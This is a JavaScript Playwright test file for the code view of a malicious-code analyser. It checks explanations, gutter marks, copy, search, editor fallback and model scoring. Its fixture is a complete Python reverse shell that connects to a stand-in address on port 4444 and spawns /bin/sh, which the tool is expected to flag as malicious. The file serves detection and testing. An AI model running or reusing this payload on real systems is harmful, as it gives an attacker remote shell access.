// The code view: marks, explanations, search and copy, keys, and what stays when the model's score replaces the evidence's.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { example, openCode, paste, start } from './support.mjs';

const { inPage, stop, address } = await start();
after(stop);

/** @typedef {import('playwright-core').Page} Page */

const shell = `import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
`;

/** Goes to the strongest reason and rests the pointer on it. @param {Page} page */
async function explanation(page) {
  await page.locator('pv-verdict-card .reasons button').first().click();
  await page.locator('.pv-target').first().hover();
  await page.locator('.pv-explain').waitFor();
  return page.locator('.pv-explain').innerText();
}

test('the pointer on a proof brings its meaning and its techniques by name', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    const text = await explanation(page);
    assert.match(text, /Critical Socket joined to a shell.s input and output/);
    assert.match(text, /isolate the host/);
    assert.match(text, /T1059\.004 · .*Unix Shell · Execution/);
  }));

test('an explanation speaks the language of the page', () =>
  inPage({ locale: 'pt-PT' }, async (page) => {
    await paste(page, shell);
    assert.match(await explanation(page), /isole a máquina/);
  }));

test('a mark in the gutter says how grave it is and what it is', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    await openCode(page);
    const mark = page.locator('.pv-gutter .pv-mark-critical').first();
    assert.match((await mark.getAttribute('title')) ?? '', /^Critical: Socket joined/);
    assert.equal(await mark.innerText(), '');
  }));

const editorFile = /\/assets\/editor-[^/]*\.js$/;

test('an editor that does not arrive at first is asked for again', () =>
  inPage({ goto: false, broken: editorFile }, async (page) => {
    let asked = 0;
    await page.route(editorFile, (route) => (++asked <= 2 ? route.abort() : route.continue()));
    await page.goto(address);
    await paste(page, shell);
    await openCode(page);
    assert.equal(asked, 3);
  }));

test('without the editor the text stands there plainly, until it arrives', () =>
  inPage({ goto: false, broken: editorFile }, async (page) => {
    await page.route(editorFile, (route) => route.abort());
    await page.goto(address);
    const text = Array.from({ length: 450 }, (_, at) => `value_${at} = ${at}  # \u202e`).join('\n');
    await paste(page, `${text}\n${shell}`);
    await page.locator('#tab-code').click();
    const plain = page.locator('pv-plain-text');
    await plain.locator('[role=status]:has-text("could not be loaded")').waitFor();
    assert.match((await plain.locator('[role=region]').textContent()) ?? '', /value_449 = 449 {2}# U\+202E/);
    const numbers = Array.from({ length: 57 }, (_, at) => 401 + at).join('\n');
    assert.equal(await plain.locator('pre').nth(4).textContent(), numbers);
    await page.locator('pv-verdict-card .reasons button').first().click();
    assert.ok(await plain.locator('[role=region]').evaluate((box) => box.scrollTop > 400 * 20));
    await page.unroute(editorFile);
    await plain.locator('button').click();
    await page.locator('.cm-line').first().waitFor();
    assert.equal(await plain.count(), 0);
  }));

test('the code is copied as it is, invisible characters and all', () =>
  inPage({}, async (page) => {
    const text = `# \u202e hidden\n${shell}`;
    await paste(page, text);
    await openCode(page);
    await page.locator('pv-code-pane .bar pv-copy button').click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), text);
    await page.locator('.cm-content').click();
    await page.keyboard.press('Control+a');
    await page.keyboard.press('Control+c');
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), text);
  }));

test('the keys of an editor move in a long text, and nothing can be typed', () =>
  inPage({}, async (page) => {
    const lines = Array.from({ length: 3000 }, (_, at) => `value_${at} = ${at}`);
    await paste(page, lines.join('\n'));
    await openCode(page);
    await page.locator('.cm-content').focus();
    await page.keyboard.press('Control+End');
    await page.locator('.cm-line:has-text("value_2999")').waitFor();
    await page.keyboard.type('x');
    await page.keyboard.press('Control+Home');
    await page.locator('.cm-line:has-text("value_0 = 0")').waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Shift+End');
    await page.keyboard.press('Control+c');
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'value_1 = 1');
    await page.keyboard.press('PageDown');
    await page.keyboard.press('PageDown');
    assert.ok((await page.locator('.cm-line:has-text("value_1 =")').count()) === 0);
  }));

test('the search is opened by its key, and finds what is far below', () =>
  inPage({}, async (page) => {
    await paste(page, `${'x = 1\n'.repeat(4000)}needle = 2\n`);
    await openCode(page);
    await page.locator('.cm-content').focus();
    await page.keyboard.press('Control+f');
    await page.locator('.cm-search input[name=search]').pressSequentially('needle');
    await page.keyboard.press('Enter');
    await page.locator('.cm-searchMatch-selected').waitFor();
  }));

test('a layer stands beside its parent, where the place that it was built at is lit up', () =>
  inPage({}, async (page) => {
    await paste(page, example('reverse-shell.json'));
    await page.locator('#tab-layers').click();
    await page.locator('pv-layers-view [role=treeitem]').nth(1).click();
    const [parent, layer] = await page.locator('pv-layers-view .two section').all();
    await parent.locator('.pv-target').first().waitFor();
    assert.match(await parent.locator('h2').innerText(), /Layer 0/);
    assert.match(await layer.locator('h2').innerText(), /Layer 1/);
    assert.notEqual(
      await layer.locator('.cm-content').innerText(),
      await parent.locator('.cm-content').innerText(),
    );
  }));

test('when the score of the model comes, the reader keeps the place', () =>
  inPage({ goto: false }, async (page) => {
    /** @type {() => void} */
    let release = () => {};
    const held = new Promise((resolve) => (release = () => resolve(undefined)));
    await page.route('**/model-*.onnx', async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(address);
    await paste(page, `${'x = 1\n'.repeat(300)}${shell}`);
    const basis = page.locator('pv-verdict-card .score');
    await page.locator('pv-verdict-card .score:has-text("being loaded")').waitFor();
    await page.locator('pv-verdict-card .reasons button').first().click();
    await page.locator('.pv-target').first().waitFor();
    const scrolled = () => page.locator('.cm-scroller').evaluate((scroller) => scroller.scrollTop);
    const before = await scrolled();
    assert.ok(before > 100);
    await page.locator('#search').click();
    await page.locator('.cm-search').waitFor();
    release();
    await page.locator('pv-verdict-card .score:has-text("from model")').waitFor();
    assert.doesNotMatch(await basis.innerText(), /being loaded/);
    assert.ok(await page.locator('.cm-search').isVisible(), 'the search panel is still open');
    assert.ok((await page.locator('.pv-target').count()) > 0, 'the place is still lit up');
    assert.ok(Math.abs((await scrolled()) - before) < 80);
    await page.goBack();
    assert.match(await basis.innerText(), /from model/);
  }));

test('without its files the model is given up: the evidence stands, and the page says so', () =>
  inPage({ goto: false }, async (page) => {
    await page.route('**/model-*.onnx', (route) => route.abort());
    await page.goto(address);
    await paste(page, shell);
    await page.locator('pv-verdict-card .score:has-text("could not be used")').waitFor();
    assert.equal(await page.locator('pv-verdict-card h1').innerText(), 'Malicious');
    await page.locator('pv-verdict-card .score button').click();
    await page.locator('pv-diagnostics-view .tag:has-text("modelUnavailable")').waitFor();
  }).catch((/** @type {Error} */ error) => {
    // The browser logs the request that failed; nothing else may have been logged.
    const lines = error.message.match(/(error|warning|uncaught|request): .*/g) ?? [];
    if (lines.length === 0 || lines.some((line) => !/ERR_FAILED/.test(line))) throw error;
  }));
